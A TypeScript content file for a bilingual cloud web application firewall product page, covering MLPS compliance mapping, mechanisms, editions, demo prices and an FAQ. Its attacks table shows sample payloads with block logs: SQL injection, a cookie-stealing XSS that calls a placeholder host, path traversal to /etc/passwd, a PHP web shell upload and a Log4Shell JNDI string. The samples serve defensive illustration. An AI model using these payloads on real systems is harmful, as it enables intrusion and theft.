import { wafUsdPerMonth } from "@zhian/contracts/demo-prices";
import type { CtaBlock, FaqBlock, Figure, Words } from "@zhian/page/content";
import type {
  FeaturesBlock,
  PageContent,
  PricesBlock,
  RelatedBlock,
  ScenariosBlock,
  SpecsBlock,
} from "../../model/page-content.ts";
import type { AttacksBlock, CoverageBlock } from "../../model/security-content.ts";

/** Addresses and names are those that are set aside for examples. */
const attacks: AttacksBlock = {
  is: "attacks",
  anchor: "attacks",
  nav: { en: "Attacks", zh: "攻防对照" },
  heading: { en: "Seven attacks, without it and with it", zh: "七种攻击，防护前后对照" },
  lead: {
    en: "Choose one to read the line that you would find in the log.",
    zh: "选中一种，查看日志里对应的那一行。",
  },
  caption: {
    en: "Table 2. The request, what it does to a bare server, and what is left of it",
    zh: "表 2　攻击请求、无防护的后果与防护后的结果",
  },
  items: [
    {
      id: "sqli",
      name: { en: "SQL injection", zh: "SQL 注入" },
      request: "GET /items?id=7' UNION SELECT name,pass FROM users--",
      without: {
        en: "The page lists users and password hashes where the item should be.",
        zh: "商品页直接列出用户名和密码散列。",
      },
      with: { en: "403. The query never reaches the database.", zh: "返回 403，语句到不了数据库。" },
      log: [
        "time=2026-11-20T09:14:07+08:00",
        "action=block",
        "status=403",
        "rule=SQLI-0102",
        "part=query:id",
        'match="UNION SELECT"',
        "src=203.0.113.24",
        "host=shop.example",
        "path=/items",
        "request=8c1f-20a7",
      ],
    },
    {
      id: "xss",
      name: { en: "Stored cross-site scripting", zh: "存储型跨站脚本" },
      request: "POST /comments  text=<svg/onload=fetch('//198.51.100.9/'+document.cookie)>",
      without: {
        en: "Everybody who reads the comment hands over the session.",
        zh: "每个看到评论的人都交出会话。",
      },
      with: {
        en: "403 for the post; text with harmless angle brackets still passes.",
        zh: "提交返回 403；普通尖括号文字照常通过。",
      },
      log: [
        "time=2026-11-20T09:15:31+08:00",
        "action=block",
        "status=403",
        "rule=XSS-0017",
        "part=form:text",
        'match="<svg/onload="',
        "src=203.0.113.24",
        "host=shop.example",
        "path=/comments",
        "request=8c21-93d0",
      ],
    },
    {
      id: "traversal",
      name: { en: "Reading files by their path", zh: "路径穿越读文件" },
      request: "GET /download?file=..%252f..%252f..%252fetc%252fpasswd",
      without: {
        en: "Configuration, with its passwords, is downloaded like a brochure.",
        zh: "带密码的配置文件像宣传册一样被下载。",
      },
      with: { en: "403, after decoding twice, as the server would.", zh: "像服务器一样解码两次后识破，返回 403。" },
      log: [
        "time=2026-11-20T10:02:44+08:00",
        "action=block",
        "status=403",
        "rule=LFI-0004",
        "part=query:file",
        'match="../../../etc/"',
        "decoded=2",
        "src=198.51.100.77",
        "host=shop.example",
        "path=/download",
        "request=8c7b-0e15",
      ],
    },
    {
      id: "webshell",
      name: { en: "Upload of a web shell", zh: "上传 WebShell" },
      request: "POST /avatar  filename=me.png.php  <?php eval($_POST[1]);",
      without: { en: "A picture that runs commands on your server.", zh: "一张能在服务器上执行命令的“头像”。" },
      with: {
        en: "The upload is refused for what it holds, whatever its name.",
        zh: "不看文件名看内容，拒绝上传。",
      },
      log: [
        "time=2026-11-20T11:20:09+08:00",
        "action=block",
        "status=403",
        "rule=UPLOAD-0031",
        "part=file:avatar",
        'match="<?php eval("',
        "src=198.51.100.77",
        "host=shop.example",
        "path=/avatar",
        "request=8cd0-7742",
      ],
    },
    {
      id: "cve",
      name: { en: "A hole that is not patched yet", zh: "尚未修补的漏洞" },
      request: "GET /  User-Agent: ${jndi:ldap://198.51.100.9/a}",
      without: {
        en: "The logging library fetches a program and runs it (CVE-2021-44228).",
        zh: "日志组件下载并运行外来程序（CVE-2021-44228）。",
      },
      with: {
        en: "403 for this and for its nested and encoded spellings. Patch all the same.",
        zh: "连同嵌套、编码等变形写法一并拦截；补丁仍然要打。",
      },
      log: [
        "time=2026-11-20T13:41:58+08:00",
        "action=block",
        "status=403",
        "rule=CVE-2021-44228",
        "part=header:user-agent",
        'match="${jndi:"',
        "src=192.0.2.140",
        "host=shop.example",
        "path=/",
        "request=8d4e-b3f9",
      ],
    },
    {
      id: "stuffing",
      name: { en: "Trying stolen passwords", zh: "撞库" },
      request: {
        en: "POST /login × 4,000 in an hour, from 900 addresses",
        zh: "POST /login，一小时 4,000 次，来自 900 个地址",
      },
      without: {
        en: "One in a few hundred fits: people use a password twice.",
        zh: "几百个里总有一个能登录：很多人密码通用。",
      },
      with: {
        en: "Counted by fingerprint, not by address: from the 21st try in a minute on, a challenge.",
        zh: "按指纹而不是地址计数，一分钟内第 21 次起要求完成挑战。",
      },
      log: [
        "time=2026-11-20T02:05:16+08:00",
        "action=challenge",
        "status=429",
        "rule=RATE-login",
        "count=21/60s",
        "key=fingerprint:e7d7",
        "src=192.0.2.51",
        "host=shop.example",
        "path=/login",
        "request=8b02-5a6c",
      ],
    },
    {
      id: "flood",
      name: { en: "Flood of expensive pages", zh: "CC 攻击" },
      request: { en: "GET /search?q=… × 3,000 in a second", zh: "每秒 3,000 次 GET /search" },
      without: {
        en: "The database works on searches that nobody reads; customers wait.",
        zh: "数据库忙着应付没人看的搜索，客户只能干等。",
      },
      with: {
        en: "Above the limit you set, sources are challenged, then refused for ten minutes.",
        zh: "超过你设的阈值后先挑战，再封禁十分钟。",
      },
      log: [
        "time=2026-11-20T20:00:03+08:00",
        "action=refuse",
        "status=429",
        "rule=RATE-search",
        "count=3012/1s",
        "key=path",
        "ttl=600s",
        "src=192.0.2.0/24",
        "host=shop.example",
        "path=/search",
        "request=8f90-11de",
      ],
    },
  ],
  note: {
    en: "Examples with addresses and names that are set aside for examples. Rule numbers and limits are demo values.",
    zh: "示例使用文档专用的地址与域名，规则编号与阈值均为演示数值。",
  },
};

export const coverage: CoverageBlock = {
  is: "coverage",
  anchor: "coverage",
  nav: { en: "Compliance", zh: "等保对照" },
  heading: { en: "Which controls of Classified Protection it answers", zh: "对应等保的哪些控制点" },
  lead: {
    en: "Clause by clause of GB/T 22239-2019 (MLPS, 等保 2.0), with what is left for you to do. A firewall alone passes no assessment.",
    zh: "按 GB/T 22239-2019（等保 2.0）逐条对照，并写明还需你做什么。只靠一台防火墙，过不了测评。",
  },
  caption: {
    en: "Table 1. Technical controls to which a web firewall contributes",
    zh: "表 1　Web 应用防火墙可支撑的技术要求",
  },
  controls: [
    {
      name: { en: "Intrusion prevention at the boundary", zh: "区域边界：入侵防范" },
      inChinese: "入侵防范",
      level2: "7.1.3.3",
      level3: "8.1.3.3 a, c, d",
      does: {
        en: "Detects and stops attacks from outside; records source address, kind, target and time of each, and raises an alert.",
        zh: "检测并阻断外部攻击，记录攻击源 IP、类型、目标与时间，并告警。",
      },
      remains: {
        en: "Attacks that begin inside your network (8.1.3.3 b): host security.",
        zh: "从内部发起的攻击（8.1.3.3 b），用主机安全。",
      },
    },
    {
      name: { en: "Access control at the boundary", zh: "区域边界：访问控制" },
      inChinese: "访问控制",
      level3: "8.1.3.2 e",
      does: {
        en: "Allows or refuses by method, path, header, country and content of a request.",
        zh: "按请求方法、路径、请求头、地区和内容放行或拒绝。",
      },
      remains: {
        en: "Addresses and ports (a to d): security groups, closed by default.",
        zh: "地址与端口规则（a 至 d），用安全组，默认拒绝。",
      },
    },
    {
      name: { en: "Malicious code at the boundary", zh: "区域边界：恶意代码防范" },
      inChinese: "恶意代码防范",
      level2: "7.1.3.4",
      level3: "8.1.3.4 a",
      does: {
        en: "Inspects uploaded files for web shells and known malware; its signatures are updated without you.",
        zh: "检测上传文件中的 WebShell 和已知恶意代码，特征库自动更新。",
      },
      remains: {
        en: "Mail, and files that reach a host by another way.",
        zh: "垃圾邮件，以及从其他途径进入主机的文件。",
      },
    },
    {
      name: { en: "Security audit at the boundary", zh: "区域边界：安全审计" },
      inChinese: "安全审计",
      level2: "7.1.3.5 a–c",
      level3: "8.1.3.5 a–c",
      does: {
        en: "Writes date, time, source, event, result and rule of each decision; kept out of reach of your own servers.",
        zh: "逐条记录日期时间、来源、事件类型、结果和命中规则，日志不存放在业务主机上。",
      },
      remains: {
        en: "What a signed-in user did inside the application: its own log.",
        zh: "登录用户在系统内的操作，由应用自身日志记录。",
      },
    },
    {
      name: { en: "Communication", zh: "通信网络：通信传输" },
      inChinese: "通信传输",
      level2: "7.1.2.2",
      level3: "8.1.2.2 a, b",
      does: {
        en: "Speaks TLS 1.2 and 1.3 to visitors, and TLS again to your servers.",
        zh: "对访问者使用 TLS 1.2、1.3，回源同样加密。",
      },
      remains: {
        en: "Traffic between your own servers, and national algorithms where a cryptography assessment asks for them.",
        zh: "内部系统之间的传输；如需密评，还要使用商用密码算法。",
      },
    },
    {
      name: { en: "Checks of input", zh: "计算环境：入侵防范（输入校验）" },
      inChinese: "入侵防范：数据有效性检验",
      level2: "7.1.4.4 d",
      level3: "8.1.4.4 d",
      does: {
        en: "Refuses requests that do not fit the described form of an interface: unknown fields, wrong types, excess length.",
        zh: "拒绝不符合接口定义的请求：多余字段、类型错误、超长内容。",
      },
      remains: {
        en: "The application must check as well: a rule knows form, not meaning.",
        zh: "应用自身仍须校验：规则懂格式，不懂业务。",
      },
    },
    {
      name: { en: "Known vulnerabilities", zh: "计算环境：入侵防范（已知漏洞）" },
      inChinese: "入侵防范：已知漏洞",
      level2: "7.1.4.4 e",
      level3: "8.1.4.4 e",
      does: {
        en: "Holds requests that use a published hole while you test the patch.",
        zh: "在你测试补丁期间，挡住利用已公开漏洞的请求。",
      },
      remains: {
        en: "Finding them, with scans, and the patch itself.",
        zh: "发现漏洞（漏洞扫描），以及最终打上补丁。",
      },
    },
    {
      name: { en: "Central control", zh: "管理中心：集中管控" },
      inChinese: "集中管控",
      level3: "8.1.5.4 d",
      does: {
        en: "Hands its audit records to Log Audit, which keeps them for six months or longer.",
        zh: "审计记录送往日志审计，留存六个月以上。",
      },
      remains: {
        en: "The records of everything else, gathered in the same place.",
        zh: "其他设备的审计数据也要汇总到同一处。",
      },
    },
  ],
  note: {
    en: "Orientation for planning: the assessor judges your configuration and your procedures. Clause numbers are those of the standard, whose text decides.",
    zh: "供规划参考，最终以测评机构对配置与制度的判断为准。条款编号与标准一致，文字以原文为准。",
  },
  source: { label: { en: "Text of the standard", zh: "标准原文" }, url: "https://openstd.samr.gov.cn/" },
};

const yes: Words = { en: "Yes", zh: "支持" };
const no: Words = { en: "No", zh: "不支持" };
const basic: Words = { en: "Basic", zh: "基础版" };
const professional: Words = { en: "Professional", zh: "专业版" };
const enterprise: Words = { en: "Enterprise", zh: "企业版" };

const editions: SpecsBlock = {
  is: "specs",
  anchor: "editions",
  nav: { en: "Editions", zh: "版本" },
  heading: { en: "Editions, told apart by what they hold", zh: "版本区别：看容量与能力" },
  caption: { en: "Table 3. What each edition includes (demo values)", zh: "表 3　各版本包含内容（演示数值）" },
  columns: [{ en: "Included", zh: "项目" }, basic, professional, enterprise],
  rows: [
    {
      label: { en: "Sites, each with its subdomains", zh: "站点数（含子域名）" },
      cells: [
        { en: "1", zh: "1" },
        { en: "5", zh: "5" },
        { en: "20", zh: "20" },
      ],
    },
    {
      label: { en: "Requests in a second", zh: "每秒请求数" },
      cells: [
        { en: "500", zh: "500" },
        { en: "3,000", zh: "3,000" },
        { en: "10,000", zh: "10,000" },
      ],
    },
    {
      label: { en: "Rules of your own", zh: "自定义规则" },
      cells: [
        { en: "20", zh: "20" },
        { en: "100", zh: "100" },
        { en: "500", zh: "500" },
      ],
    },
    { label: { en: "Injection, uploads, virtual patches", zh: "注入、上传、虚拟补丁" }, cells: [yes, yes, yes] },
    { label: { en: "Limits and challenges for programs", zh: "限速与人机挑战" }, cells: [no, yes, yes] },
    { label: { en: "Interface descriptions (OpenAPI)", zh: "接口定义校验（OpenAPI）" }, cells: [no, yes, yes] },
    { label: { en: "Client certificates (mTLS)", zh: "客户端证书（mTLS）" }, cells: [no, no, yes] },
    {
      label: { en: "Logs kept", zh: "日志留存" },
      cells: [
        { en: "30 days", zh: "30 天" },
        { en: "180 days", zh: "180 天" },
        { en: "365 days", zh: "365 天" },
      ],
    },
  ],
  note: {
    en: "Logs must be kept for at least six months in mainland China: with Basic, send them on to Log Audit.",
    zh: "日志应留存不少于六个月：基础版请转存到日志审计。",
  },
};

const prices: PricesBlock = {
  is: "prices",
  anchor: "prices",
  nav: { en: "Prices", zh: "价格" },
  heading: { en: "Prices, in both ledgers", zh: "价格，两种货币对照" },
  demo: { en: "Demo prices", zh: "演示价格" },
  lines: [
    {
      id: "basic",
      name: basic,
      for: { en: "One company site without logins", zh: "没有登录功能的企业官网" },
      usd: wafUsdPerMonth.basic,
      unit: "month",
      slaPercent: 99.9,
    },
    {
      id: "professional",
      name: professional,
      for: { en: "Shops and portals; systems of level 2", zh: "电商与门户，二级系统" },
      usd: wafUsdPerMonth.professional,
      unit: "month",
      slaPercent: 99.95,
    },
    {
      id: "enterprise",
      name: enterprise,
      for: { en: "Many sites, interfaces for partners; systems of level 3", zh: "多站点、对外接口，三级系统" },
      usd: wafUsdPerMonth.enterprise,
      unit: "month",
      slaPercent: 99.95,
    },
  ],
  note: {
    en: "Prices and service levels are demo values until the price list is published. A month is charged day by day. Tax is not included: in Indonesia, 12 % on 11/12 of the amount is added, which comes to 11 %.",
    zh: "价目表公布前，价格与服务等级均为演示数值。月价按日扣费，不含税：印尼客户另计增值税，按金额的 11/12 征收 12%，实际为 11%。",
  },
};

const features: FeaturesBlock = {
  is: "features",
  anchor: "features",
  nav: { en: "Mechanisms", zh: "防护机制" },
  heading: { en: "Six mechanisms, and where each one ends", zh: "六种机制，各有边界" },
  items: [
    {
      title: { en: "Reads a request as the target would", zh: "按目标系统的方式理解请求" },
      text: {
        en: "What looks like a quotation mark in a novel is let through; what completes a query is not.",
        zh: "小说里的引号放行，能拼成查询语句的引号拦下。",
      },
      mechanism: {
        en: "Parameters are decoded as often as a server would, then parsed as SQL, shell, HTML and template code. A fragment that runs is an attack.",
        zh: "参数按服务器的方式逐层解码，再按 SQL、命令、HTML、模板语法解析，能执行的片段即判为攻击。",
      },
      limit: {
        en: "Bodies that your app encrypts itself cannot be read. Of uploads, the first 8 MiB are inspected.",
        zh: "应用自行加密的内容无法解析；上传文件只检查前 8 MiB。",
      },
    },
    {
      title: { en: "Watches first", zh: "先观察，再拦截" },
      text: {
        en: "Every site starts by reporting, so that the first thing it blocks is not a customer.",
        zh: "每个站点先只告警，免得第一个拦下的就是客户。",
      },
      mechanism: {
        en: "A report lists what would have been blocked, by rule and path; exceptions are set for one parameter of one path, not for the site.",
        zh: "报告按规则和路径列出“本会拦截”的请求，例外只对某个路径的某个参数生效，不影响整站。",
      },
      limit: {
        en: "While it watches, nothing is stopped. Plan one to two weeks, with a month's end among them.",
        zh: "观察期间不拦截任何请求，建议安排一到两周，并覆盖一次月末。",
      },
    },
    {
      title: { en: "A patch before the patch", zh: "补丁之前的补丁" },
      text: {
        en: "A published hole is closed in front of the software while you test the vendor's update.",
        zh: "漏洞公开后，先在软件前面堵上，留出测试官方补丁的时间。",
      },
      mechanism: {
        en: "Rules for vulnerabilities carry their CVE number, are sent to all nodes at once and can be read, and switched off, one by one.",
        zh: "漏洞规则标注 CVE 编号，同时下发到所有节点，可逐条查看和关闭。",
      },
      limit: {
        en: "It knows the forms of an attack that are known. The update is still needed.",
        zh: "只认得已知的利用方式，官方补丁仍然要打。",
      },
    },
    {
      title: { en: "Tells programs from people", zh: "分得清程序和人" },
      text: {
        en: "Scripts that try passwords, buy tickets or copy prices are slowed down and then stopped.",
        zh: "撞库、抢购、爬价格的脚本，先减速，再拦下。",
      },
      mechanism: {
        en: "Requests are counted by address, session and the handshake's fingerprint; beyond a limit comes a computed challenge. Search engines are known by their reverse DNS.",
        zh: "按来源地址、会话和握手指纹计数，超限后下发计算挑战；搜索引擎用反向解析核实。",
      },
      limit: {
        en: "Slow scripts in real browsers get through. Logins need a second factor as well.",
        zh: "在真实浏览器里慢速运行的脚本仍可能通过，登录请另加二次验证。",
      },
    },
    {
      title: { en: "Hides the origin", zh: "隐藏源站" },
      text: {
        en: "Who knows your server's address could go around the firewall; so it answers nobody else.",
        zh: "知道源站地址就能绕过防火墙，所以让源站只回应防火墙。",
      },
      mechanism: {
        en: "The nodes' addresses are a security group that keeps itself up to date; your servers admit this group only.",
        zh: "节点地址做成自动更新的安全组，源站只放行这一组。",
      },
      limit: {
        en: "An address that was public before stays in old DNS records: change it once.",
        zh: "曾经公开过的地址会留在历史解析里，接入后请更换一次。",
      },
    },
    {
      title: { en: "Logs that can be shown", zh: "拿得出手的日志" },
      text: {
        en: "Each decision can be found by the number that the blocked visitor sees.",
        zh: "被拦截的访问者看到一个编号，凭编号就能查到那次处置。",
      },
      mechanism: {
        en: "One line for each decision: time, source, rule, the part of the request that matched, result. Searchable, exportable, sent on by syslog.",
        zh: "每次处置一行：时间、来源、规则、命中位置、结果，可检索、导出，也可用 syslog 转发。",
      },
      limit: {
        en: "Bodies are not kept unless you switch it on for a path; passwords and card numbers are masked even then.",
        zh: "默认不保存请求正文；按路径开启后，密码和卡号仍会脱敏。",
      },
    },
  ],
};

const figure: Figure = {
  caption: {
    en: "Figure 1. Two who ask for the same page. The broken line is an attack, and where it ends; boxes with a seal lead to their product.",
    zh: "图 1　同一个页面，两种来访。虚线是攻击，到防火墙为止；带印的方框可点开对应产品。",
  },
  nodes: [
    { id: "visitors", label: { en: "Visitor", zh: "访问者" }, column: 0, row: 0, kind: "outside" },
    {
      id: "ddos",
      label: { en: "Anti-DDoS", zh: "DDoS 高防" },
      note: { en: "floods", zh: "流量清洗" },
      product: "ddos",
      column: 1,
      row: 0,
      kind: "security",
    },
    { id: "attacker", label: { en: "Attacker", zh: "攻击者" }, column: 2, row: 0, kind: "outside" },
    {
      id: "las",
      label: { en: "Log Audit", zh: "日志审计" },
      note: { en: "LAS", zh: "LAS" },
      product: "las",
      column: 0,
      row: 1,
      kind: "security",
    },
    {
      id: "waf",
      label: { en: "Web firewall", zh: "应用防火墙" },
      note: { en: "WAF", zh: "WAF" },
      product: "waf",
      column: 1,
      row: 1,
      kind: "security",
    },
    {
      id: "refused",
      label: { en: "Refused", zh: "拒绝" },
      note: { en: "403, and a log line", zh: "403，并留日志" },
      column: 2,
      row: 1,
      kind: "outside",
    },
    {
      id: "blb",
      label: { en: "Balancer", zh: "负载均衡" },
      note: { en: "BLB", zh: "BLB" },
      product: "blb",
      column: 1,
      row: 2,
      kind: "network",
    },
    {
      id: "mysql",
      label: { en: "MySQL", zh: "MySQL" },
      note: { en: "never reached", zh: "攻击到不了" },
      product: "mysql",
      column: 0,
      row: 3,
      kind: "storage",
    },
    {
      id: "bcc",
      label: { en: "Servers", zh: "云服务器" },
      note: { en: "BCC × 2", zh: "BCC × 2" },
      product: "bcc",
      column: 1,
      row: 3,
      kind: "compute",
    },
    {
      id: "hosteye",
      label: { en: "HostEye", zh: "主机安全" },
      note: { en: "HOSTEYE", zh: "HOSTEYE" },
      product: "hosteye",
      column: 2,
      row: 3,
      kind: "security",
    },
  ],
  edges: [
    { from: "visitors", to: "ddos", label: { en: "A visitor's request arrives", zh: "访问者的请求到达" } },
    {
      from: "attacker",
      to: "ddos",
      isAttack: true,
      label: { en: "An attacker's request arrives by the same way", zh: "攻击者的请求从同一条路到达" },
    },
    {
      from: "ddos",
      to: "waf",
      label: {
        en: "Anti-DDoS hands both to the firewall: neither is a flood",
        zh: "两者都不是洪水，高防一并交给防火墙",
      },
    },
    {
      from: "waf",
      to: "refused",
      isAttack: true,
      label: { en: "The firewall refuses the attack and writes a log line", zh: "防火墙拒绝攻击并写下日志" },
    },
    { from: "waf", to: "las", label: { en: "Its log goes to Log Audit", zh: "日志送往日志审计" } },
    {
      from: "waf",
      to: "blb",
      label: { en: "What is clean goes on to the load balancer", zh: "正常请求继续到负载均衡" },
    },
    { from: "blb", to: "bcc", label: { en: "and from there to a server", zh: "再分发到云服务器" } },
    { from: "bcc", to: "mysql", label: { en: "Servers query the database", zh: "云服务器查询数据库" } },
    {
      from: "hosteye",
      to: "bcc",
      label: { en: "HostEye watches the servers for what came another way", zh: "主机安全看住从别处进来的威胁" },
    },
  ],
};

const questions: FaqBlock = {
  is: "faq",
  anchor: "faq",
  nav: { en: "FAQ", zh: "常见问题" },
  heading: { en: "Questions before a name is pointed here", zh: "切换解析之前常问的" },
  items: [
    {
      question: { en: "What do I change?", zh: "接入要改什么？" },
      answer: {
        en: "One DNS record: the site's name becomes a CNAME of ours. Then your servers admit only our nodes. The program stays as it is, except that it reads the visitor's address from X-Forwarded-For.",
        zh: "改一条解析：把域名 CNAME 到防护地址，再让源站只放行防护节点。程序不用动，只需从 X-Forwarded-For 读取访问者地址。",
      },
    },
    {
      question: { en: "And if it blocks a customer?", zh: "误拦客户怎么办？" },
      answer: {
        en: "The page that the customer sees carries a number. Look it up in the log, and set an exception for that parameter of that path; it holds within a minute.",
        zh: "客户看到的拦截页上有编号。凭编号在日志里找到那条请求，对该路径的该参数设置例外，一分钟内生效。",
      },
    },
    {
      question: { en: "What if the firewall itself fails?", zh: "防火墙自己出故障怎么办？" },
      answer: {
        en: "Nodes stand in for one another. If all fail, you choose beforehand: close the site, or point the name at your servers, unprotected, until we are back.",
        zh: "节点互为备份。万一全部失效，按你事先的选择处理：要么暂停访问，要么把解析切回源站，在无防护状态下继续服务。",
      },
    },
    {
      question: { en: "Does it stop every DDoS attack?", zh: "能防住所有 DDoS 吗？" },
      answer: {
        en: "It stops floods of requests, up to the edition's rate. Floods of packets fill the line before a request exists: those are for Anti-DDoS.",
        zh: "能防请求洪水（CC），上限为版本的每秒请求数。流量洪水在形成请求之前就堵住了线路，要用 DDoS 高防。",
      },
    },
    {
      question: { en: "Where is my certificate's key?", zh: "证书私钥放在哪里？" },
      answer: {
        en: "On the nodes that serve your site, encrypted at rest. It has to be there: a request that cannot be read cannot be judged.",
        zh: "加密存放在为你服务的节点上。私钥必须在这里：读不了的请求就没法判断。",
      },
    },
    {
      question: { en: "Do I need an ICP filing?", zh: "需要备案吗？" },
      answer: {
        en: "For nodes in mainland China, yes: they serve only names that are filed. Nodes in Indonesia ask for none.",
        zh: "使用中国大陆节点需要，未备案的域名无法接入；印尼节点不需要。",
      },
    },
    {
      question: { en: "Is level 3 passed with this?", zh: "买了它三级就能过吗？" },
      answer: {
        en: "No. It answers the clauses of table 1. Host security, a bastion, log audit, scans and procedures on paper answer others.",
        zh: "不能。它对应表 1 的条款，其余还需主机安全、堡垒机、日志审计、漏洞扫描和管理制度。",
      },
    },
  ],
};

const related: RelatedBlock = {
  is: "related",
  anchor: "related",
  heading: { en: "What stands before and behind it", zh: "它的前后左右" },
  items: [
    { product: "ddos", relation: { en: "Before it: takes floods off the line", zh: "在它之前：清洗流量洪水" } },
    {
      product: "cdn",
      relation: { en: "Before it: serves what need not be asked for twice", zh: "在它之前：分发静态内容" },
    },
    { product: "ssl", relation: { en: "Gives it the site's certificate", zh: "为它提供站点证书" } },
    {
      product: "hosteye",
      relation: { en: "Behind it: watches the servers from inside", zh: "在它之后：从内部看住主机" },
    },
    { product: "las", relation: { en: "Keeps its logs for six months and longer", zh: "日志留存六个月以上" } },
    { product: "vss", relation: { en: "Finds the holes that it is to cover", zh: "找出需要它遮挡的漏洞" } },
  ],
  solutions: ["dengbao-solution", "ecommerce", "edu-security"],
};

const callToAction: CtaBlock = {
  is: "cta",
  anchor: "start",
  heading: { en: "Begin by watching one site", zh: "先观察一个站点" },
  lead: {
    en: "Put one site behind it in watching mode, and read after a week what would have been blocked. Nothing is stopped until you say so.",
    zh: "把一个站点接入观察模式，一周后看看本会拦下什么。你没点头，它不拦截。",
  },
  actions: [
    { label: { en: "Add a site", zh: "添加站点" }, to: "console:/waf/create" },
    { label: { en: "See the level's whole list", zh: "查看等保全套清单" }, to: "/products/dengbao" },
  ],
};

const scenarios: ScenariosBlock = {
  is: "scenarios",
  anchor: "scenarios",
  nav: { en: "Uses", zh: "适用场景" },
  heading: { en: "Three sites, three reasons", zh: "三类网站，三种理由" },
  items: [
    {
      id: "old-portal",
      name: { en: "A portal nobody can patch", zh: "没人能改的旧系统" },
      problem: {
        en: "The office portal was built in 2014, its maker is gone, and an assessment for level 2 is due.",
        zh: "办公门户建于 2014 年，开发商已经不在，二级测评却到期了。",
      },
      approach: {
        en: "The firewall stands in front with virtual patches, uploads are inspected, and the old server admits nobody but the nodes.",
        zh: "前置防火墙并启用虚拟补丁，检查上传文件，旧服务器只放行防护节点。",
      },
      result: {
        en: "The findings that concern the web are answered by configuration, while a replacement is planned without haste.",
        zh: "与 Web 有关的整改项用配置解决，替换系统可以从容安排。",
      },
      products: ["waf", "bcc", "vss", "las"],
    },
    {
      id: "sale",
      name: { en: "A sale at eight in the evening", zh: "晚八点的促销" },
      problem: {
        en: "Scripts empty the stock in the first minute, and searches slow the shop for everybody else.",
        zh: "脚本在第一分钟抢空库存，海量搜索拖慢了所有人。",
      },
      approach: {
        en: "Pictures come from the CDN; the order and search paths have limits of their own, and a challenge for what is over them.",
        zh: "图片走 CDN；下单和搜索路径单独限速，超出部分要求完成挑战。",
      },
      result: {
        en: "Stock goes to sessions that answered a challenge; the log shows who was slowed down and why.",
        zh: "库存留给通过挑战的会话，被限速的来源与原因都有日志。",
      },
      products: ["ddos", "cdn", "waf", "blb", "bcc"],
    },
    {
      id: "api",
      name: { en: "An interface for an app", zh: "给 App 用的接口" },
      problem: {
        en: "The app's interface is found by those who read its traffic; they send what no app would send.",
        zh: "抓包就能找到 App 的接口，随后收到各种 App 不会发的请求。",
      },
      approach: {
        en: "Its description (OpenAPI) is loaded; what does not fit is refused, and each key has a rate.",
        zh: "导入接口定义（OpenAPI），不符合的请求拒绝，每个密钥限定频率。",
      },
      result: {
        en: "Made-up fields and foreign methods end at the edge; the program behind sees only what it was written for.",
        zh: "伪造字段和多余方法止于边缘，后端只看到设计内的请求。",
      },
      products: ["waf", "bci", "scs"],
    },
  ],
};

const asked = { atLevel2: coverage.controls.filter(({ level2 }) => level2).length, atLevel3: coverage.controls.length };
const controlsByLevel: Words = {
  en: `${asked.atLevel2} at level 2, ${asked.atLevel3} at level 3`,
  zh: `二级 ${asked.atLevel2} 项，三级 ${asked.atLevel3} 项`,
};

export const content: PageContent = {
  code: "waf",
  title: { en: "Web Application Firewall", zh: "Web 应用防火墙" },
  lead: {
    en: "It stands between visitors and your site, reads every request, and refuses those that would run, read or take what they should not. What it refuses, it writes down.",
    zh: "站在访问者与网站之间，读懂每个请求，拒绝那些想执行、想偷看、想拿走的，并把每次拒绝记录在案。",
  },
  actions: [
    { label: { en: "See what it stops", zh: "看它拦什么" }, to: "#attacks" },
    { label: { en: "Open in the console", zh: "进入控制台" }, to: "console:/waf" },
  ],
  figure,
  facts: [
    {
      label: { en: "Basic edition (demo price)", zh: "基础版（演示价格）" },
      value: { is: "price", usd: wafUsdPerMonth.basic, unit: { en: "per month", zh: "每月" } },
      anchor: "prices",
    },
    {
      label: { en: "SLA of Professional (demo)", zh: "专业版 SLA（演示）" },
      value: { is: "percent", percent: 99.95 },
      anchor: "prices",
    },
    {
      label: { en: "Controls of GB/T 22239-2019", zh: "GB/T 22239-2019 控制点" },
      value: { is: "words", words: controlsByLevel },
      anchor: "coverage",
    },
    {
      label: { en: "To connect a site", zh: "接入方式" },
      value: { is: "words", words: { en: "One DNS record", zh: "改一条解析" } },
      anchor: "faq",
    },
  ],
  blocks: [coverage, features, attacks, scenarios, editions, prices, questions, related, callToAction],
  seo: {
    title: { en: "Web Application Firewall: attacks, controls, prices", zh: "Web 应用防火墙 WAF：攻防对照与等保条款" },
    description: {
      en: "A cloud WAF explained by seven attacks and their log lines, clause by clause of GB/T 22239-2019, with editions and prices in USD and IDR.",
      zh: "用七种攻击和日志说明云 WAF 拦什么，逐条对照等保 GB/T 22239-2019，版本与价格以美元、印尼盾列出。",
    },
    keywords: {
      en: "web application firewall, WAF, SQL injection, MLPS, GB/T 22239-2019, ZhiAn Cloud",
      zh: "Web应用防火墙,WAF,SQL注入,等保,GB/T 22239-2019,智安云",
    },
  },
  updatedAt: "2026-11-20",
};
